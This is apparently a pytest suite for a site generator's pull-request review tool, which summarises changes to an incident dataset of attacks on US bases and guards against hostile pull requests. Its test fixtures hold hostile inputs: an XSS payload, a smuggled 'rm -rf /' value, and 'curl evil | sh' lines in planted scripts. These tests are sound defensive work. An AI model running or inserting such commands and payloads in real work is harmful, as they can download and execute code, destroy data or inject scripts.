"""`python -m generator diff BASE [HEAD]` (`make diff`, `make review`, CI's review) on real
temporary git repositories: what a change does to the published site, computed by this
checkout's code from the other version's files read as data."""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import GOOD, ROOT, copy_project, write_incident

from generator.changes import passages
from generator.cli import main

SAMPLE = "data/incidents/2022/2022-08-15-green-village-rockets.yaml"
LONELY = "data/incidents/2022/2022-01-03-camp-victory-drones.yaml"  # nothing links to it
GOLDEN = ROOT / "tests" / "golden"
NEW = GOOD.replace("2022-08-15", "2022-08-30").replace("2022-08-16", "2022-08-31")


def git(root, *args: str) -> str:
    run = subprocess.run(["git", *args], cwd=root, capture_output=True, text=True, check=True)
    return run.stdout.strip()


@pytest.fixture
def repo(tmp_path, monkeypatch):
    """A git repository holding a copy of the project, with one commit: the sample data."""
    for name, value in {
        "GIT_AUTHOR_NAME": "Analyst",
        "GIT_AUTHOR_EMAIL": "analyst@example.org",
        "GIT_COMMITTER_NAME": "Analyst",
        "GIT_COMMITTER_EMAIL": "analyst@example.org",
        "GIT_CONFIG_GLOBAL": "/dev/null",
        "GIT_CONFIG_NOSYSTEM": "1",
    }.items():
        monkeypatch.setenv(name, value)
    project = copy_project(tmp_path / "repo")
    git(project.root, "init", "-q", "-b", "main")
    commit(project, "sample data")
    return project


def commit(project, message: str) -> str:
    git(project.root, "add", "-A")
    git(project.root, "commit", "-q", "--allow-empty", "-m", message)
    return git(project.root, "rev-parse", "--short=7", "HEAD")


def diff(capsys, project, *refs: str) -> tuple[int, str, str]:
    code = main(["--root", str(project.root), "diff", *refs])
    out, err = capsys.readouterr()
    return code, out, err


def edit(project, path: str, old: str, new: str) -> None:
    file = project.root / path
    text = file.read_text()
    assert old in text, f"{old!r} is not in {path}"
    file.write_text(text.replace(old, new))


def test_a_page_changed_is_shown_and_nothing_else(repo, capsys):
    first = git(repo.root, "rev-parse", "--short=7", "HEAD")
    (repo.root / "docs" / "about.md").write_text("Only a page changed.\n")
    second = commit(repo, "not data")
    code, out, err = diff(capsys, repo, "HEAD~1", "HEAD")
    assert (code, err) == (0, "")
    assert out.startswith(
        f"## Review: `HEAD~1` ({first}) → `HEAD` ({second})\n\n"
        "**This change alters what the site publishes.**\n\n### Data: `data`\n\n"
        "No record, base, actor or setting of this data folder changed.\n"
    )
    assert "### Hand-written pages (1)\n" in out and "+Only a page changed." in out
    assert "Code change" not in out
    assert "**No change to what the site publishes.**" in diff(capsys, repo, "main")[1]


def test_a_pull_request_that_adds_one_incident_and_corrects_another(repo, capsys, request):
    base = git(repo.root, "rev-parse", "--short=7", "HEAD")
    write_incident(repo, NEW)
    edit(repo, SAMPLE, "  injured: 0", "  injured: 2")
    edit(repo, SAMPLE, "Nobody was hurt.", "Two soldiers were lightly hurt.")
    edit(repo, SAMPLE, "status: confirmed", "status: reported")
    code, out, err = diff(capsys, repo, "main")  # against the working tree
    assert (code, err) == (0, "")
    golden = GOLDEN / "review-add-and-correct.md"
    if request.config.getoption("--update-golden"):
        golden.write_text(out.replace(base, "BASE"))
    assert out == golden.read_text().replace("BASE", base)
    head = commit(repo, "add and correct")
    committed = diff(capsys, repo, "HEAD~1", "HEAD")[1]
    # Committed, the same review, and the correction's entry in the corrections log
    # (uncommitted changes have no commit to publish as a reason)
    data = out[: out.index("#### What changes on the site")]
    assert committed.startswith(
        data.replace(f"`main` ({base}) → the working tree", f"`HEAD~1` ({base}) → `HEAD` ({head})")
        + "#### The corrections log (1 entry)\n"
    )
    assert "`2022-08-15-green-village-rockets` corrected (" in committed
    assert f"reason: “add and correct” (`{head}`)" in committed
    assert "corrections.md: changed" in committed


def test_sources_added_in_front_or_corrected_in_place(repo, capsys):
    edit(
        repo,
        LONELY,
        "sources:\n",
        "sources:\n  - publisher: CENTCOM\n    title: Statement\n    published: 2022-01-04\n"
        "    url: https://example.com/statement\n",
    )
    assert (
        "  - `sources[0]`: (not set) → CENTCOM, Statement, 2022-01-04, "
        "https:&#8203;//example.com/statement\n"
    ) in diff(capsys, repo, "HEAD")[1]
    commit(repo, "a source")
    edit(
        repo,
        LONELY,
        "published: 2022-01-04\n    url: https://example.com/statement",
        "published: 2022-01-05\n    url: https://example.com/statement",
    )
    edit(repo, LONELY, "title: Statement", "title: Statement on drones")
    out = diff(capsys, repo, "HEAD")[1]
    assert (
        "  - `sources[0].title`: Statement → Statement on drones\n"
        "  - `sources[0].published`: 2022-01-04 → 2022-01-05\n"
    ) in out
    assert "`sources[1]" not in out


def test_removed_and_counts_that_drop_to_zero(repo, capsys):
    (repo.root / LONELY).unlink()
    commit(repo, "remove")
    code, out, _ = diff(capsys, repo, "HEAD~1", "HEAD")
    assert code == 0
    assert "Incidents: 1 removed.\n" in out
    assert (
        "#### Removed incidents (1)\n\n- 2022-01-03 **Drone attack on Camp Victory**: "
        f"`2022-01-03-camp-victory-drones`, was `{LONELY}`\n"
    ) in out
    assert "- Camp Victory, 2022-01: 1 → 0\n" in out
    assert "- Incidents: 17 → 16 (-1)\n" in out
    assert "Added incidents" not in out and "Changed incidents" not in out


def test_a_moved_file_is_moved_not_removed_and_added(repo, capsys):
    # The record was filed under the wrong year: same id, new folder, date corrected.
    edit(repo, LONELY, "date: 2022-01-03", "date: 2021-01-03")
    edit(repo, LONELY, "2022-01-03-camp-victory-drones", "2022-01-03-camp-victory-drones")
    (repo.root / "data/incidents/2021").mkdir(exist_ok=True)
    git(repo.root, "mv", LONELY, "data/incidents/2021/2022-01-03-camp-victory-drones.yaml")
    commit(repo, "move")
    out = diff(capsys, repo, "HEAD~1", "HEAD")[1]
    assert "Incidents: 1 changed.\n" in out
    assert (
        "- 2021-01-03 **Drone attack on Camp Victory**: `2022-01-03-camp-victory-drones`\n"
        f"  - file moved: `{LONELY}` → "
        "`data/incidents/2021/2022-01-03-camp-victory-drones.yaml`\n"
        "  - `date`: 2022-01-03 → 2021-01-03\n"
    ) in out
    assert "- Camp Victory, 2021-01: 0 → 1\n- Camp Victory, 2022-01: 1 → 0\n" in out


def test_a_renamed_id_with_the_same_content_is_one_change(repo, capsys):
    new_path = "data/incidents/2022/2022-01-03-camp-victory-drone-attack.yaml"
    git(repo.root, "mv", LONELY, new_path)
    edit(
        repo,
        new_path,
        "id: 2022-01-03-camp-victory-drones",
        "id: 2022-01-03-camp-victory-drone-attack",
    )
    commit(repo, "rename")
    out = diff(capsys, repo, "HEAD~1", "HEAD")[1]
    assert "Incidents: 1 changed.\n" in out
    assert (
        "- 2022-01-03 **Drone attack on Camp Victory**: `2022-01-03-camp-victory-drone-attack`\n"
        "  - id: `2022-01-03-camp-victory-drones` → `2022-01-03-camp-victory-drone-attack` "
        "(same content, without `previous_ids`)\n"
        f"  - file moved: `{LONELY}` → `{new_path}`\n"
    ) in out
    assert "No count of attacks by base and month changed.\n" in out
    assert "- Incidents: 17 (unchanged)\n" in out


def test_an_id_corrected_the_documented_way_shows_where_the_old_address_leads(repo, capsys):
    # CONTRIBUTING.md: rename file and id, list the old id in previous_ids, fix the summary.
    new_path = "data/incidents/2022/2022-01-03-camp-victory-drone-attack.yaml"
    git(repo.root, "mv", LONELY, new_path)
    edit(
        repo,
        new_path,
        "id: 2022-01-03-camp-victory-drones",
        "id: 2022-01-03-camp-victory-drone-attack\nprevious_ids: [2022-01-03-camp-victory-drones]",
    )
    edit(repo, new_path, "Drones attacked US forces", "Two drones attacked US forces")
    commit(repo, "correct the id")
    out = diff(capsys, repo, "HEAD~1", "HEAD")[1]
    assert "Incidents: 1 added, 1 removed.\n" in out
    assert (
        "- 2022-01-03 **Drone attack on Camp Victory**: `2022-01-03-camp-victory-drones`, was "
        f"`{LONELY}`. **Its address now leads to `2022-01-03-camp-victory-drone-attack`** "
        "(Drone attack on Camp Victory), which names it in `previous_ids`. The two records, "
        "field by field (removed → the record its address leads to):\n"
        "  - `summary`: 1 passage changed\n"
        "    - Drones attacked US forces at Camp … → Two drones attacked US forces at Camp …\n"
    ) in out
    assert "- Incidents: 17 (unchanged)\n" in out


def test_an_address_taken_over_by_an_unrelated_record_shows_both_records(repo, capsys):
    """Remove a record and list its id in another record's previous_ids: its permanent
    address now leads to that record. The review shows the removal, where the address now
    leads, and both records side by side (issue: the previous_ids hijack)."""
    (repo.root / LONELY).unlink()
    edit(
        repo,
        SAMPLE,
        "id: 2022-08-15-green-village-rockets",
        "id: 2022-08-15-green-village-rockets\nprevious_ids: [2022-01-03-camp-victory-drones]",
    )
    commit(repo, "hijack")
    out = diff(capsys, repo, "HEAD~1", "HEAD")[1]
    assert "Incidents: 1 removed, 1 changed.\n" in out
    assert (
        "**Its address now leads to `2022-08-15-green-village-rockets`** (Rocket attack on "
        "Green Village), which names it in `previous_ids`."
    ) in out
    removed = out[out.index("#### Removed incidents") : out.index("#### Changed incidents")]
    assert "  - `date`: 2022-01-03 → 2022-08-15\n" in removed
    assert "  - `base`: camp-victory → green-village\n" in removed
    changed = out[out.index("#### Changed incidents") :]
    assert "  - `previous_ids`: (not set) → 2022-01-03-camp-victory-drones\n" in changed
    assert "- Incidents: 17 → 16 (-1)\n" in out


def test_base_changes_and_markdown_in_the_data_is_escaped(repo, capsys):
    edit(repo, "data/bases.yaml", "name: Camp Victory", "name: Camp *Victory* | Baghdad")
    edit(repo, SAMPLE, "perpetrator: iran-backed-groups", "perpetrator: '<b>[x](y)</b> `z`'")
    out = diff(capsys, repo, "HEAD")[1]
    assert "Incidents: 1 changed. Bases: 1 changed.\n" in out
    assert "  - `perpetrator`: iran-backed-groups → \\<b\\>\\[x\\](y)\\</b\\> \\`z\\`\n" in out
    assert (
        "#### Changed bases (1)\n\n- **Camp \\*Victory\\* \\| Baghdad**: `camp-victory`\n"
        "  - `name`: Camp Victory → Camp \\*Victory\\* \\| Baghdad\n"
    ) in out


def test_a_ref_with_invalid_data_is_named_with_its_problems(repo, capsys):
    edit(repo, LONELY, "kind: attack", "kind: attak")
    commit(repo, "typo")
    code, out, err = diff(capsys, repo, "HEAD~1", "HEAD")
    assert (code, err) == (1, "")
    assert "**The data cannot be built on one side: its problems are listed below.**" in out
    assert (
        "The data in this change cannot be built; its problems:\n\n```text\n"
        f"{LONELY}:4:7: kind: &#39;attak&#39; is not allowed; did you mean &#39;attack&#39;? "
        "Use one of: attack, strike\n```\n"
    ) in out


def test_a_ref_without_data_counts_as_empty(repo, capsys):
    git(repo.root, "checkout", "-q", "--orphan", "empty")
    git(repo.root, "rm", "-rq", "--cached", ".")
    git(repo.root, "commit", "-q", "--allow-empty", "-m", "empty")
    out = diff(capsys, repo, "empty", "main")[1]
    assert "`empty` (" in out
    assert "Incidents: 17 added. Bases: 6 added. Actors: 2 added." in out
    assert "- Incidents: 0 → 17 (+17)\n" in out


def test_an_unknown_ref_is_named(repo, capsys):
    assert diff(capsys, repo, "no-such-branch") == (
        1,
        "",
        "'no-such-branch' is not a commit, branch or tag in this repository; check the name "
        "(`git log --oneline` lists commits; a pull request's branch may need "
        "`git fetch origin pull/N/head:pr-N` first)\n",
    )


def test_outside_a_git_repository(project, capsys):
    code, out, err = diff(capsys, project, "main")
    assert (code, out) == (1, "")
    assert (
        err == f"{project.root} is not in a git repository; a review compares two versions of one\n"
    )


def test_a_project_in_a_subfolder_of_the_repository(tmp_path, repo, capsys):
    outer = tmp_path / "outer"
    project = copy_project(outer / "site")
    git(outer, "init", "-q", "-b", "main")
    commit(project, "sample")
    write_incident(project, NEW)
    out = diff(capsys, project, "main")[1]
    assert "Incidents: 1 added.\n" in out
    assert "### Data: `site/data`" in out  # paths are the repository's
    assert "`site/data/incidents/2022/2022-08-30-green-village-rockets.yaml`" in out


def test_passages_of_a_long_text_show_every_change_with_words_around_it():
    old = " ".join(f"w{n}" for n in range(60))
    new = old.replace("w10 ", "TEN ").replace("w30 ", "THIRTY ").replace("w50 ", "FIFTY ")
    assert passages(old, new) == (
        (
            "… w5 w6 w7 w8 w9 w10 w11 w12 w13 w14 w15 …",
            "… w5 w6 w7 w8 w9 TEN w11 w12 w13 w14 w15 …",
        ),
        (
            "… w25 w26 w27 w28 w29 w30 w31 w32 w33 w34 w35 …",
            "… w25 w26 w27 w28 w29 THIRTY w31 w32 w33 w34 w35 …",
        ),
        (
            "… w45 w46 w47 w48 w49 w50 w51 w52 w53 w54 w55 …",
            "… w45 w46 w47 w48 w49 FIFTY w51 w52 w53 w54 w55 …",
        ),
    )


# --- what a hostile or careless pull request cannot hide (issue: a hostile pull request) ---

LONG_NOTES = (
    "The first report came from a local outlet citing residents near the base. "
    "A statement followed in the afternoon saying that no US personnel were hurt and that "
    "damage was limited to a storage building. Later reporting added that two launchers "
    "were found nearby, one of them still loaded. Officials declined to name the group. "
    "A monitor counted six explosions in total, of which four were on the base itself."
)


def test_every_changed_passage_of_a_long_text_is_shown_and_an_added_text_in_full(repo, capsys):
    edit(repo, LONELY, "notes: >-\n", f"notes: >-\n  {LONG_NOTES}\n")
    commit(repo, "notes")
    edited = (
        LONG_NOTES.replace("a local outlet", "a state outlet")
        .replace("in the afternoon", "in the evening")
        .replace("no US personnel were hurt", "twelve US soldiers were killed")
        .replace("two launchers", "three launchers")
        .replace("six explosions", "nine explosions")
    )
    damage = "Two hangars, a fuel store and three vehicles were destroyed. " * 3
    edit(repo, LONELY, LONG_NOTES, edited)
    edit(repo, LONELY, "summary:", f"damage: {damage.strip()}\nsummary:")
    out = diff(capsys, repo, "HEAD")[1]
    assert "  - `notes`: 4 passages changed\n" in out  # two edits close together: one
    assert "that twelve US soldiers were killed and that" in out  # the third of five
    for word in ("state outlet", "in the evening", "three launchers", "nine explosions"):
        assert word in out
    assert f"  - `damage`: (not set) → {damage.strip()}\n" in out  # whole, not cut


def test_merging_duplicates_into_a_new_record_is_one_change(repo, capsys):
    """Delete A and B, add C with previous_ids [A, B]: a merge, summed up, never a crash."""
    a = "data/incidents/2022/2022-01-05-ain-al-asad-rockets.yaml"
    b = "data/incidents/2022/2022-01-05-baghdad-rockets.yaml"
    merged = (
        (repo.root / a)
        .read_text()
        .replace(
            "id: 2022-01-05-ain-al-asad-rockets",
            "id: 2022-01-05-iraq-rockets\n"
            "previous_ids: [2022-01-05-ain-al-asad-rockets, 2022-01-05-baghdad-rockets]",
        )
        .replace(", 2022-01-05-baghdad-rockets]\ntags", "]\ntags")
    )
    (repo.root / a).unlink()
    (repo.root / b).unlink()
    (repo.root / "data/incidents/2022/2022-01-05-iraq-rockets.yaml").write_text(merged)
    code, out, err = diff(capsys, repo, "HEAD")
    assert (code, err) == (0, ""), err
    assert "Incidents: 1 added, 2 removed.\n" in out
    for old in ("2022-01-05-ain-al-asad-rockets", "2022-01-05-baghdad-rockets"):
        assert (
            f"`{old}`, was `data/incidents/2022/{old}.yaml`. **Its address now leads to "
            "`2022-01-05-iraq-rockets`**" in out
        )
    assert "- Incidents: 17 → 16 (-1)\n" in out
    # And into a record that keeps its own id: B is merged into A, A's id stays.
    (repo.root / "data/incidents/2022/2022-01-05-iraq-rockets.yaml").unlink()
    (repo.root / a).write_text(
        merged.replace("id: 2022-01-05-iraq-rockets", "id: 2022-01-05-ain-al-asad-rockets").replace(
            "[2022-01-05-ain-al-asad-rockets, 2022-01-05-baghdad-rockets]",
            "[2022-01-05-baghdad-rockets]",
        )
    )
    out = diff(capsys, repo, "HEAD")[1]
    assert "Incidents: 1 removed, 1 changed.\n" in out
    assert (
        "`2022-01-05-baghdad-rockets`, was `data/incidents/2022/2022-01-05-baghdad-rockets.yaml`. "
        "**Its address now leads to `2022-01-05-ain-al-asad-rockets`**"
    ) in out


def test_a_symlinked_record_is_seen_and_refused(repo, capsys):
    """A record committed as a link to a file elsewhere: a later change to that file would
    change the published record with an empty data diff. Git's link is exported as a link,
    and the validator refuses it."""
    target = repo.root / "examples" / "2022-08-30-green-village-rockets.yaml"
    target.parent.mkdir(exist_ok=True)
    target.write_text(NEW)
    link = repo.root / "data/incidents/2022/2022-08-30-green-village-rockets.yaml"
    link.symlink_to("../../../examples/2022-08-30-green-village-rockets.yaml")
    commit(repo, "a link")
    code, out, err = diff(capsys, repo, "HEAD~1", "HEAD")
    assert (code, err) == (1, "")
    assert (
        "data/incidents/2022/2022-08-30-green-village-rockets.yaml:1:1: file: is a symbolic "
        "link (to ../../../examples/2022-08-30-green-village-rockets.yaml)"
    ) in out
    assert "> - `examples/2022-08-30-green-village-rockets.yaml` (other files): added" in out


def test_mode_changes_and_other_files_in_the_data_are_listed(repo, capsys):
    (repo.root / LONELY).chmod(0o755)
    (repo.root / "data" / "notes.txt").write_text("not a record\n")
    commit(repo, "modes")
    out = diff(capsys, repo, "HEAD~1", "HEAD")[1]
    assert "### Files in the data folders that the records do not show (2)\n" in out
    assert f"- `{LONELY}`: mode changed: file → executable file\n" in out
    assert "- `data/notes.txt`: added (file)\n" in out


def test_a_change_to_code_templates_pages_workflows_or_settings_is_listed_to_read_as_code(
    repo, capsys
):
    for path, text in {
        "templates/overview.md.j2": "{{ site }}\n",
        "docs/about.md": "<img src=x onerror=alert(1)>\n",
        "generator/wording.py": "# edited\n",
        ".github/workflows/ci.yml": "on: push\n",
        "mkdocs.yml": "site_name: x\n",
    }.items():
        file = repo.root / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(file.read_text() + text if file.exists() else text)
    write_incident(repo, NEW)
    out = diff(capsys, repo, "HEAD")[1]
    assert "Incidents: 1 added.\n" in out
    banner = out[: out.index("**This change alters what the site publishes.**")]
    assert "> [!CAUTION]\n> **Code change: review as code.**" in banner
    for line in (
        "> - `.github/workflows/ci.yml` (workflows): added (file)\n",
        "> - `generator/wording.py` (code): added (file)\n",
        "> - `mkdocs.yml` (site settings): modified (file)\n",
        "> - `templates/overview.md.j2` (templates): modified (file)\n",
    ):
        assert line in banner, banner
    assert "data/incidents" not in banner and "docs/about.md" not in banner
    pages = out[out.index("### Hand-written pages (1)") :]
    assert "+&lt;img src=x onerror=alert(1)&gt;" not in pages  # shown in a code block, as is
    assert "+<img src=x onerror=alert(1)>" in pages


def test_text_that_github_would_bring_alive_stays_text_in_the_job_summary(repo, capsys):
    edit(
        repo,
        LONELY,
        "summary: >-\n",
        "summary: >-\n  &#8238;gnp.exe @octocat www.evil.example https://evil.example/x\n",
    )
    out = diff(capsys, repo, "HEAD")[1]
    line = next(line for line in out.splitlines() if "octocat" in line)
    assert "&amp;#8238;" in line  # an entity in the data is shown as those characters
    assert "@&#8203;octocat" in line  # no mention, no notification
    assert "www&#8203;.evil" in line and "https:&#8203;//evil" in line  # no links
    assert "\u202e" not in out


@pytest.mark.slow
def test_make_review_sums_up_a_pull_request_with_this_checkout_s_code(repo):
    """A pull request that also edits the review's own template and code to hide itself,
    reviewed from the main branch's checkout: its code is never run, its record and its
    edited code are listed."""
    for name in ("generator", "Makefile", "pyproject.toml", "requirements"):
        source = ROOT / name
        if source.is_dir():
            shutil.copytree(
                source,
                repo.root / name,
                dirs_exist_ok=True,
                ignore=shutil.ignore_patterns("__pycache__"),
            )
        else:
            shutil.copy2(source, repo.root / name)
    commit(repo, "the code")
    git(repo.root, "checkout", "-q", "-b", "pull-request")
    template = repo.root / "generator" / "tools" / "templates" / "review.md.j2"
    template.write_text("No change to what the site publishes.\n")
    (repo.root / "generator" / "tools" / "review" / "__init__.py").write_text("raise SystemExit\n")
    makefile = repo.root / "Makefile"
    makefile.write_text(makefile.read_text().replace("--merge-base", "--help"))
    write_incident(repo, NEW)
    commit(repo, "a hostile pull request")
    git(repo.root, "checkout", "-q", "main")
    venv = Path(sys.executable).parent.parent
    run = subprocess.run(
        ["make", "-s", "review", "BASE=main", "PR=pull-request", f"VENV={venv}"],
        cwd=repo.root,
        capture_output=True,
        text=True,
        check=False,
    )
    assert run.returncode == 0, run.stderr
    assert run.stdout.startswith("## Review: `main` (")
    assert "#### Added incidents (1)\n" in run.stdout
    for path in ("Makefile", "generator/tools/review/__init__.py", template.relative_to(repo.root)):
        assert f"> - `{path}`" in run.stdout
    assert git(repo.root, "status", "--porcelain") == ""  # the checkout was not touched


# --- the Review workflow: a pull request reviewed by the default branch's code ---------------


class _FakeGitHub:
    """GitHub's comments API, on localhost: records what it is sent."""

    def __init__(self, comments):
        import http.server
        import json
        import threading

        self.comments = comments
        self.calls = []
        fake = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def _answer(self, data):
                body = json.dumps(data).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self):
                fake.calls.append(("GET", self.path, None, self.headers["Authorization"]))
                self._answer(fake.comments)

            def _write(self, method):
                length = int(self.headers["Content-Length"])
                payload = json.loads(self.rfile.read(length))
                fake.calls.append((method, self.path, payload, self.headers["Authorization"]))
                self._answer({"id": 1})

            def do_POST(self):
                self._write("POST")

            def do_PATCH(self):
                self._write("PATCH")

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def url(self):
        return f"http://127.0.0.1:{self.server.server_address[1]}"


@pytest.fixture
def pull_request(repo, tmp_path, monkeypatch):
    """An origin with main and pull request 7 (one incident added), and a checkout of main."""
    origin = tmp_path / "origin.git"
    git(tmp_path, "clone", "-q", "--bare", str(repo.root), str(origin))
    git(repo.root, "checkout", "-q", "-b", "feature")
    write_incident(repo, NEW)
    commit(repo, "a new incident")
    head = git(repo.root, "rev-parse", "HEAD")
    git(repo.root, "push", "-q", str(origin), "feature:refs/pull/7/head")
    git(repo.root, "push", "-q", str(origin), "main:refs/pull/8/head")  # another pull request
    base = tmp_path / "base"
    git(tmp_path, "clone", "-q", str(origin), str(base))
    request = tmp_path / "request" / "pr.json"
    request.parent.mkdir()
    request.write_text('{"number": 7}\n')
    monkeypatch.setenv("GITHUB_REPOSITORY", "owner/tracker")
    monkeypatch.setenv("GH_TOKEN", "token-123")
    return base, head, request


def test_the_review_workflow_reviews_the_pull_request_and_comments_once(
    pull_request, tmp_path, monkeypatch, capsys
):
    from generator.tools.review.github import MARKER

    base, head, request = pull_request
    api = _FakeGitHub([])
    monkeypatch.setenv("GITHUB_API_URL", api.url)
    summary = tmp_path / "summary.md"
    argv = ["--root", str(base), "review-pull-request", "--request", str(request)]
    assert main([*argv, "--head", head, "--summary", str(summary)]) == 0
    assert "#### Added incidents (1)\n" in summary.read_text()
    (get, post) = api.calls
    assert get[0] == "GET" and get[1] == "/repos/owner/tracker/issues/7/comments?per_page=100"
    assert post[:2] == ("POST", "/repos/owner/tracker/issues/7/comments")
    assert post[2]["body"].startswith(MARKER + "\n## Review: `HEAD` (")
    assert post[3] == "Bearer token-123"
    assert git(base, "status", "--porcelain") == ""  # nothing of the head was checked out
    # A second run updates the comment the first posted (by the workflow's bot).
    api = _FakeGitHub([{"id": 42, "body": MARKER + "\nold", "user": {"type": "Bot"}}])
    monkeypatch.setenv("GITHUB_API_URL", api.url)
    assert main([*argv, "--head", head, "--summary", str(summary)]) == 0
    assert [c[:2] for c in api.calls][-1] == ("PATCH", "/repos/owner/tracker/issues/comments/42")


@pytest.mark.parametrize(
    "request_text, message",
    [
        ('{"number": 8}', "not {head}, the commit CI ran on: it moved on since"),
        ('{"number": 9}', "git fetch failed: fatal: couldn't find remote ref refs/pull/9/head"),
        ('{"number": "7; rm -rf /"}', "does not hold a pull request's number"),
        ("not json", 'is not {"number": N}'),
        ('{"number": 7, "pad": "' + "x" * 2000 + '"}', "larger than a pull request's number"),
    ],
)
def test_a_forged_or_broken_review_request_posts_nothing(
    pull_request, tmp_path, monkeypatch, capsys, request_text, message
):
    base, head, request = pull_request
    api = _FakeGitHub([])
    monkeypatch.setenv("GITHUB_API_URL", api.url)
    request.write_text(request_text)
    argv = ["--root", str(base), "review-pull-request", "--request", str(request), "--head", head]
    code = main(argv)
    err = capsys.readouterr().err
    assert code == 1
    assert message.replace("{head}", head[:7]) in err
    assert api.calls == []


def test_a_possible_duplicate_brought_by_the_change_is_a_hint_for_the_reviewer(repo, capsys):
    # The same Green Village attack entered again under another id, the next day: the
    # validator's duplicate hint, which does not block, is shown for the reviewer to decide.
    text = (repo.root / SAMPLE).read_text()
    twin = text.replace(
        "id: 2022-08-15-green-village-rockets", "id: 2022-08-16-green-village-salvo"
    )
    twin = twin.replace("date: 2022-08-15", "date: 2022-08-16")
    (repo.root / "data/incidents/2022/2022-08-16-green-village-salvo.yaml").write_text(twin)
    commit(repo, "a second record of one attack")
    code, out, err = diff(capsys, repo, "HEAD~1", "HEAD")
    assert (code, err) == (0, "")
    assert "#### Hints for the reviewer (1)\n" in out
    hint = out.split("#### Hints for the reviewer (1)\n")[1]
    assert "2022-08-16-green-village-salvo.yaml" in hint
    assert "may be the same event as '2022-08-15-green-village-rockets'" in hint
    # Marked as a different event after review, the hint goes.
    path = repo.root / "data/incidents/2022/2022-08-16-green-village-salvo.yaml"
    path.write_text(
        path.read_text().replace(
            "kind: attack", "kind: attack\ndistinct_from: [2022-08-15-green-village-rockets]"
        )
    )
    commit(repo, "reviewed: two attacks")
    code, out, err = diff(capsys, repo, "HEAD~2", "HEAD")
    assert "Hints for the reviewer" not in out


def test_what_a_change_adds_to_the_corrections_log_is_shown_with_its_published_reason(repo, capsys):
    """The corrections log publishes each commit's first line as the reason for a
    correction: the review shows every entry a change adds, reason and all, as text."""
    edit(repo, SAMPLE, "status: confirmed", "status: reported")
    reason = "Status: <img src=x onerror=alert(1)> @octocat see https://evil.example/x"
    head = commit(repo, reason)
    git(repo.root, "rm", "-q", LONELY)
    commit(repo, "Removed: a duplicate of another record")
    out = diff(capsys, repo, "HEAD~2", "HEAD")[1]
    log = out[out.index("#### The corrections log (2 entries)") :]
    log = log[: log.index("\n####")]
    entry = next(line for line in log.splitlines() if "2022-08-15-green-village-rockets" in line)
    assert "corrected (status), reason: “Status: \\<img src=x onerror=alert(1)\\> " in entry
    assert "@&#8203;octocat" in entry and "https:&#8203;//evil" in entry  # inert
    assert f"(`{head}`)" in entry
    assert "`2022-01-03-camp-victory-drones` removed, reason: “Removed: a duplicate" in log
    # ... and the pages that carry them are among the site's changes
    assert "corrections.md: changed" in out and "corrections.xml: changed" in out
    # a commit that changes no record's fields adds nothing to the log
    (repo.root / "docs" / "about.md").write_text("Only a page changed.\n")
    commit(repo, "about page")
    assert "The corrections log" not in diff(capsys, repo, "HEAD~1", "HEAD")[1]


def test_a_program_in_a_data_folder_is_code_to_review_as_code(repo, capsys):
    """An importer's adapter beside a dataset is a program a reader is told to run: it
    goes under the code banner, not among the data folder's other files."""
    (repo.root / "data" / "adapter.py").write_text("import os\nos.system('curl evil | sh')\n")
    script = repo.root / "data" / "fetch"
    script.write_text("#!/bin/sh\ncurl evil | sh\n")
    script.chmod(0o755)
    (repo.root / "data" / "notes.txt").write_text("not a record\n")
    commit(repo, "an adapter")
    out = diff(capsys, repo, "HEAD~1", "HEAD")[1]
    banner = out[: out.index("\n**")]  # the headline follows the banner
    assert "> - `data/adapter.py` (code in a data folder): added (file)\n" in banner
    assert "> - `data/fetch` (code in a data folder): added (executable file)\n" in banner
    assert "notes.txt" not in banner and "- `data/notes.txt`: added (file)\n" in out


def test_a_dataset_under_examples_that_the_change_touches_is_reviewed_too(repo, capsys):
    shutil.copytree(repo.root / "data", repo.root / "examples" / "second")
    commit(repo, "a second dataset")
    edit(repo, "examples/second/dataset.yaml", "title:", "title: Renamed #")
    out = diff(capsys, repo, "HEAD")[1]
    assert "### Data: `data`" in out and "### Data: `examples/second`" in out
    second = out[out.index("### Data: `examples/second`") :]
    assert "Dataset settings: 1 field changed." in second
    assert "- `title`: " in second and "→ Renamed" in second
    assert "<summary>(the site" in second and "+      <name>Renamed</name>" in second
